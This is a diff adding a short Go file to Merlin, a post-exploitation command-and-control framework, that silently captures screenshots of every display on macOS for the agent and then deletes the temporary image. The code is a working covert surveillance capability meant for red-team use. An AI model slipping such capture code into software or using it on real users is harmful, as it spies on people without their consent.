@@ -0,0 +1,44 @@
+//go:build darwin
+// +build darwin
+
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package commands
+
+import (
+	// Standard
+	"os"
+	"os/exec"
+	"path/filepath"
+)
+
+// captureScreen takes a screenshot of every display with screencapture, it requires the agent to run in the user's GUI
+// session and the Screen Recording permission. screencapture can only write to a file, which is removed after it is
+// read
+func captureScreen() ([]byte, error) {
+	dir, err := os.MkdirTemp("", "")
+	if err != nil {
+		return nil, err
+	}
+	defer os.RemoveAll(dir)
+	path := filepath.Join(dir, "s.png")
+	if err = exec.Command("screencapture", "-x", "-t", "png", path).Run(); err != nil {
+		return nil, err
+	}
+	return os.ReadFile(path) // #nosec G304 the path is a temporary file
+}